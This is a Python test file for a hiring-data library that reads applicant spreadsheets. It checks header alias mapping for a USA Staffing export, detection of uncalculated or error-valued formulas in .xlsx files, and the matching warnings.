    non_blank = [row for row in table if any(cell for cell in row)]
    counts = result.counts
    assert counts.rows_read == counts.rows_kept + counts.rows_rejected == len(non_blank)
    assert counts.blank_rows == len(table) - len(non_blank)
    assert sorted(r.row for r in result.rows + result.rejected) == [
        i + 2 for i, row in enumerate(table) if any(cell for cell in row)
    ]
    assert all(isinstance(row, SheetRow) for row in result.rows)


USA_STAFFING_HEADER = (
    "Vacancy ID,Assessment ID,Application ID,Application Rating ID,Applicant Last Name,Applicant First Name,"
    "Applicant Middle Name,Application Number,Rating Combination,Assessment Rating,Minimum Qualifications Rating"
)


def test_usa_staffing_export_header_is_recognised(tmp_path: Path) -> None:
    """The header USA Staffing exports (federal-hiring-rules.md, section 3 item 4), through the applicant aliases."""
    from skillhire.applicants import APPLICANT_ALIASES, APPLICANT_EXTRA_ALIASES, read_applicants

    path = tmp_path / "usastaffing.csv"
    path.write_text(
        USA_STAFFING_HEADER + "\n12345,678,9001,55,Lee,Ann,K,USAS-0001,1,Best Qualified,Meets\n",
        encoding="utf-8",
    )
    aliases = {**APPLICANT_ALIASES, **APPLICANT_EXTRA_ALIASES}
    result = read_rows(path, columns=list(aliases), aliases=aliases, required=["applicant_id"])
    assert result.headers == {
        "vacancy_id": "Vacancy ID",
        "assessment_id": "Assessment ID",
        "Application ID": "Application ID",  # an internal key: "Application Number" is the applicant id
        "application_rating_id": "Application Rating ID",
        "last_name": "Applicant Last Name",
        "first_name": "Applicant First Name",
        "middle_name": "Applicant Middle Name",
        "applicant_id": "Application Number",
        "rating_combination": "Rating Combination",
        "assessment_rating": "Assessment Rating",
        "mq_rating": "Minimum Qualifications Rating",
    }
    records = read_applicants(path)
    assert [(r.row, r.applicant_id, r.first_name, r.last_name) for r in records.records] == [
        (2, "USAS-0001", "Ann", "Lee")
    ]
    assert records.records[0].extra == {
        "vacancy_id": "12345",
        "assessment_id": "678",
        "Application ID": "9001",
        "application_rating_id": "55",
        "middle_name": "K",
        "rating_combination": "1",
        "assessment_rating": "Best Qualified",
        "mq_rating": "Meets",
    }


# --------------------------------------------------------------------------- uncalculated formulas: byte scan
_CELL_KINDS = {
    "value": '<{p}c r="{r}"><{p}v>7</{p}v></{p}c>',
    "inline": '<{p}c r="{r}" t="inlineStr"><{p}is><{p}t>x &lt;f&gt; y</{p}t></{p}is></{p}c>',
    "empty": '<{p}c r="{r}"/>',
    "formula saved": '<{p}c r="{r}" t="str"><{p}f>B2&amp;"&lt;v&gt;"</{p}f><{p}v>Alex</{p}v></{p}c>',
    "formula zero": '<{p}c r="{r}"><{p}f>A1*0</{p}f><{p}v>0</{p}v></{p}c>',
    "formula no value": '<{p}c r="{r}"><{p}f>SUM(A1:A3)</{p}f></{p}c>',
    "formula empty value": '<{p}c r="{r}"><{p}f>A1</{p}f><{p}v></{p}v></{p}c>',
    "formula closed value": '<{p}c r="{r}"><{p}f>A1</{p}f><{p}v/></{p}c>',
    "shared saved": '<{p}c r="{r}"><{p}f t="shared" si="0"/><{p}v>3</{p}v></{p}c>',
    "shared no value": '<{p}c r="{r}"><{p}f t="shared" si="0"/></{p}c>',
    "spaced": '<{p}c r="{r}">\n  <{p}f>A1</{p}f>\n  <{p}v> </{p}v>\n</{p}c>',
    # a formula whose saved result is empty text (=IF(A1="","",A1)): calculated, so not reported
    "formula empty text": '<{p}c r="{r}" s="1" t="str"><{p}f>IF(A1="","",A1)</{p}f><{p}v></{p}v></{p}c>',
    "formula closed text": '<{p}c r="{r}" t="str"><{p}f>""</{p}f><{p}v/></{p}c>',
    "text formula no value": '<{p}c r="{r}" t="str"><{p}f>A1</{p}f></{p}c>',
    # an error result reads as empty with python-calamine: reported; a text result starting with # is not
    "formula error": '<{p}c r="{r}" t="e"><{p}f>VLOOKUP(A1,B:C,2,0)</{p}f><{p}v>#N/A</{p}v></{p}c>',
    "formula hash text": '<{p}c r="{r}" t="str"><{p}f>"#"&amp;A1</{p}f><{p}v>#1</{p}v></{p}c>',
}


def _sheet_book(path: Path, rows: list[list[str]], prefix: str) -> None:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    p, decl = (f"{prefix}:", f'xmlns:{prefix}="{ns}"') if prefix else ("", f'xmlns="{ns}"')
    body = "".join(
        f'<{p}row r="{i}">' + "".join(_CELL_KINDS[kind].format(p=p, r=f"{column_letter(j)}{i}")
                                      for j, kind in enumerate(kinds, 1)) + f"</{p}row>"
        for i, kinds in enumerate(rows, 1)
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", f'<workbook xmlns="{ns}" xmlns:r="http://schemas.openxmlformats.org/'
                         'officeDocument/2006/relationships"><sheets><sheet name="Applicants" sheetId="1" '
                         'r:id="rId1"/></sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml" '
                         'Type="worksheet"/></Relationships>')
        archive.writestr("xl/worksheets/sheet1.xml", f"<{p}worksheet {decl}><{p}sheetData>{body}</{p}sheetData>"
                         f"</{p}worksheet>")


def _uncalculated_by_parsing(path: Path) -> list[str]:
    """The reference: every cell parsed as XML, a formula with no value or a blank one."""
    import xml.etree.ElementTree as ET

    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(path) as archive:
        root = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    return [c.get("r") for c in root.iter(f"{main}c")
            if c.find(f"{main}f") is not None and (c.get("t") == "e" or (
                not ((v := c.find(f"{main}v")) is not None and (v.text or "").strip())
                and not (v is not None and c.get("t") == "str")))]  # a saved empty text result is calculated


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(st.sampled_from(sorted(_CELL_KINDS)), min_size=1, max_size=6), min_size=1, max_size=30),
       prefix=st.sampled_from(["", "x"]), chunk=st.sampled_from([7, 64, 1 << 20]))
def test_the_byte_scan_for_uncalculated_formulas_agrees_with_parsing_the_sheet(tmp_path, monkeypatch, rows, prefix,
                                                                                 chunk):
    """The byte scan finds the cells an XML parse finds, in order, whatever the chunk size cuts (its windows end
    on a row), with or without a namespace prefix, and is not fooled by "<f>" inside a string."""
    from skillhire import spreadsheets

    monkeypatch.setattr(spreadsheets, "_SCAN_CHUNK", chunk)
    path = tmp_path / "book.xlsx"
    _sheet_book(path, rows, prefix)
    expected = _uncalculated_by_parsing(path)
    assert spreadsheets.uncalculated_formulas(path, "Applicants", limit=1000) == (len(expected), expected)


@pytest.mark.parametrize(
    "cell, warned",
    [
        ('<c r="B2" t="e"><f>VLOOKUP(A2,X!A:B,2,0)</f><v>#N/A</v></c>', True),  # calamine reads it as empty
        ('<c r="B2" t="e"><f>#REF!+1</f><v>#REF!</v></c>', True),
        ('<c r="B2" t="str"><f>IF(A2="","",A2)</f><v></v></c>', False),  # a calculated empty text
        ('<c r="B2" t="str"><f>"#"&amp;A2</f><v>#A-1</v></c>', False),  # text that starts with #
        ('<c r="B2"><f>A2</f><v/></c>', True),  # never calculated (openpyxl writes this)
    ],
)
def test_an_error_result_is_warned_about_by_its_cell_only(tmp_path: Path, cell: str, warned: bool) -> None:
    # python-calamine, the default reader, reads '#N/A' as empty: a veterans' preference of 'none' unless warned
    path = tmp_path / "book.xlsx"
    make_xlsx(path, [["applicant_id", "veterans_preference"], ["A-1", "=A2"]])
    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda xml: re.sub(rb'<c r="B2".*?</c>', cell.encode(), xml, flags=re.DOTALL))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert [row.values["applicant_id"] for row, _ in iter_rows(path)] == ["A-1"]
    messages = [str(w.message) for w in caught if issubclass(w.category, SkillhireWarning)]
    assert messages == (["book.xlsx (sheet Applicants): 1 cell(s) hold a formula with no saved value or an error result "
                         "such as #REF! or #N/A (B2) and read as empty; fix the formulas, then open the workbook in "
                         "Excel and save it so they are calculated"] if warned else [])  # fmt: skip


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
@pytest.mark.parametrize("title", ["Applicants", "R&D <Ops> 'Q1'", "Équipe \"A\""])
def test_the_formula_warning_finds_its_sheet_by_any_name(tmp_path: Path, suffix: str, title: str) -> None:
    # the sheet's name is XML-escaped in workbook.xml (R&amp;D); openpyxl writes the rels Target absolute
    path = make_xlsx(tmp_path / f"book{suffix}", [["applicant_id", "veterans_preference"], ["A-1", "=C9"]], title=title)
    with pytest.warns(SkillhireWarning, match=r"1 cell\(s\) hold a formula .* \(B2\)"):
        assert [row.values for row, _ in iter_rows(path, sheet=title)] == [
            {"applicant_id": "A-1", "veterans_preference": None}
        ]
